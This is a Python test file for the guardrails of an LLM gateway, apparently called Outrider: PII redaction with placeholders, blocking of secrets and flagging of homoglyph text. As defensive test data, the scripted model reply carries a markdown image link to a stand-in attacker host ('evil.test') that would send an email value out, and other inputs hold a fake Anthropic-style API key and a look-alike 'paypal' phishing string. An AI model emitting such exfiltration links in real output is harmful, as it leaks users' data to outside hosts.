"""Guardrails on the way to a model and back, in a whole Outrider, with the official clients of three languages."""

import json
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest
from anthropic import Anthropic
from openai import APIStatusError, OpenAI

from outrider.journal import read
from outrider.testing import ScriptedProvider, scripted_thread
from outrider.testing.running import Running, running
from tests.gateway.conftest import House

SAID = "Dear <EMAIL_1>, all is well. Write to carol@example.com. ![x](https://evil.test/?q=<EMAIL_1>) Bye."
LEAK = "scripted:text=The key is sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123 ok."
CONFIG = """
embedded: {{enabled: false}}
providers:
  scripted: {{base_url: "{url}", models: [scripted-chat, scripted-embedding, "scripted:text={said}", "{leak}"]}}
routes:
  restored: {{deployments: ["scripted/scripted:text={said}"], cache: {{ttl: 60s}}}}
  plain: {{deployments: [scripted/scripted-chat]}}
  leaky: {{deployments: ["scripted/{leak}"]}}
guardrails:
  rules:
    cover: {{check: pii, at: [input, tool_result], do: redact, placeholders: true, options: {{only: [email, iban]}}}}
    secrets: {{check: secrets, at: [input, output], do: block}}
    answers: {{check: pii, at: [output], do: redact, kinds: {{iban: flag}}, options: {{only: [email, iban]}}}}
    hidden: {{check: hidden_text, do: flag}}
"""
BOB = "bob@example.com"


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    provider, home = ScriptedProvider(), tmp_path_factory.mktemp("home")
    with scripted_thread(provider) as url, running(CONFIG.format(url=url, said=SAID, leak=LEAK), home) as outrider:
        yield House(outrider, provider, url)


@pytest.fixture
def client(guarded: House) -> Iterator[OpenAI]:
    guarded.provider.forget()
    with OpenAI(base_url=f"{guarded.url}/v1", api_key=guarded.key, max_retries=0, timeout=30) as made:
        yield made


def pieces(stream: Any) -> Iterator[str]:
    for chunk in stream:
        yield chunk.choices[0].delta.content or "" if chunk.choices else ""


def say(text: str) -> Any:
    return [{"role": "user", "content": text}]


TOLD = f"Dear {BOB}, all is well. Write to [EMAIL]. ![x](https://evil.test/?q=<EMAIL_1>) Bye."


def told(outrider: Running, house: House, run_id: str) -> tuple[str, str, list[Any]]:
    """Request and response as the journal keeps them, and the steps of guardrails."""
    run = house.run(run_id)
    kept = [ref for ref in (run.request, run.response) if ref is not None]
    bodies = [read.get_body(outrider.store(), run.project, ref.sha256) or b"" for ref in kept]
    return bodies[0].decode(), bodies[1].decode(), [s for s in run.steps if s.kind == "guardrail"]


@pytest.mark.parametrize("stream", [False, True])
def test_a_value_goes_as_a_placeholder_and_comes_back(client: OpenAI, guarded: House, stream: bool) -> None:
    raw = client.chat.completions.with_raw_response.create(
        model="restored", messages=say(f"Answer {BOB} please."), stream=stream
    )
    answer: Any = raw.parse()
    if stream:
        text = "".join(c.choices[0].delta.content or "" for c in answer if c.choices)
    else:
        text = answer.choices[0].message.content
    assert text == TOLD
    assert guarded.provider.requests[-1]["messages"] == say("Answer <EMAIL_1> please.")
    request, response, steps = told(guarded.outrider, guarded, raw.headers["x-request-id"])
    assert BOB not in request + response
    assert "[EMAIL]" in response
    assert "<EMAIL_1>" in request
    assert [(s.name, s.attrs["result"], s.attrs["counts"]) for s in steps] == [
        ("check input", "redact", {"pii.email": 1}),
        ("check output", "redact", {"pii.email": 1}),
    ]
    assert "example" not in str(steps)


@pytest.mark.parametrize("stream", [False, True])
def test_in_other_languages_too(guarded: House, stream: bool) -> None:
    guarded.provider.forget()
    with Anthropic(base_url=guarded.url, api_key=guarded.key, max_retries=0) as client:
        if stream:
            with client.messages.stream(model="restored", max_tokens=99, messages=say(f"Answer {BOB}!")) as events:
                text = events.get_final_text()
        else:
            made = client.messages.create(model="restored", max_tokens=99, messages=say(f"Answer {BOB}!"))
            text = made.content[0].text  # type: ignore[union-attr]
    assert text == TOLD
    assert BOB not in json.dumps(guarded.provider.requests)


@pytest.mark.parametrize("stream", [False, True])
def test_responses(client: OpenAI, guarded: House, stream: bool) -> None:
    made: Any = client.responses.create(model="restored", input=f"Answer {BOB}!", stream=stream)
    text = "".join(e.delta for e in made if e.type == "response.output_text.delta") if stream else made.output_text
    assert text == TOLD
    assert BOB not in json.dumps(guarded.provider.requests)


def test_another_session_gets_nothing_back(client: OpenAI, guarded: House) -> None:
    client.chat.completions.create(
        model="restored", messages=say(f"I am {BOB}"), extra_headers={"x-outrider-session": "a"}
    )
    for session in ("a", "b"):  # not even the same one, for a request that does not have the value
        made = client.chat.completions.create(
            model="restored", messages=say("Who am I? <EMAIL_1>"), extra_headers={"x-outrider-session": session}
        )
        assert BOB not in str(made)
    assert guarded.provider.requests[-1]["messages"] == say("Who am I? ‹EMAIL_1>")


def test_a_session_keeps_its_placeholders(client: OpenAI, guarded: House) -> None:
    for text in ("first@example.com", "second@example.com and first@example.com"):
        client.chat.completions.create(
            model="plain", messages=say(text), extra_headers={"x-outrider-session": "numbers"}
        )
    assert guarded.provider.requests[-1]["messages"] == say("<EMAIL_2> and <EMAIL_1>")


def test_what_is_blocked_is_not_sent_and_not_kept(client: OpenAI, guarded: House) -> None:
    key = "sk-ant-api03-" + "abcdefghijklmnopqrstuvwxyz0123"
    with pytest.raises(APIStatusError) as caught:
        client.chat.completions.create(model="plain", messages=say(f"use {key} now"))
    assert (caught.value.status_code, caught.value.code) == (403, "guardrail_blocked")
    assert "anthropic key" in caught.value.message
    assert key not in caught.value.message
    assert guarded.provider.requests == []
    request, _, (step,) = told(guarded.outrider, guarded, caught.value.response.headers["x-request-id"])
    assert key not in request
    assert "[ANTHROPIC_KEY]" in request
    assert (step.status, step.error) == ("error", "guardrail_blocked")
    assert key not in guarded.run(caught.value.response.headers["x-request-id"]).preview


def test_an_answer_ends_where_it_is_blocked(client: OpenAI, guarded: House) -> None:
    with pytest.raises(APIStatusError) as caught:
        client.chat.completions.create(model="leaky", messages=say("hello"))
    assert caught.value.code == "guardrail_blocked"
    got: list[str] = []
    with pytest.raises(Exception, match="guardrail refuses the answer"):
        got.extend(pieces(client.chat.completions.create(model="leaky", messages=say("hello"), stream=True)))
    assert "The key is ".startswith("".join(got))
    assert len(guarded.provider.requests) == 2  # nobody asks again for what is refused


def test_flags_change_nothing(client: OpenAI, guarded: House) -> None:
    raw = client.chat.completions.with_raw_response.create(model="plain", messages=say("log in to p\u0430ypal"))
    assert guarded.provider.requests[-1]["messages"] == say("log in to p\u0430ypal")
    _, _, steps = told(guarded.outrider, guarded, raw.headers["x-request-id"])
    assert [(s.attrs["result"], s.attrs["counts"]) for s in steps] == [("flag", {"hidden_text.look_alikes": 1})]


def test_embeddings_are_checked_too(client: OpenAI, guarded: House) -> None:
    client.embeddings.create(
        model="scripted/scripted-embedding", input=[f"mail {BOB}", "plain"], encoding_format="float"
    )
    assert guarded.provider.requests[-1]["input"] == ["mail <EMAIL_1>", "plain"]


def test_findings_are_counted(client: OpenAI, guarded: House) -> None:
    client.chat.completions.create(model="plain", messages=say("count@example.com"))
    with urllib.request.urlopen(f"{guarded.url}/metrics", timeout=30) as answer:
        assert 'outrider_guardrail_findings_total{act="redact",guardrail="pii",kind="email"}' in answer.read().decode()
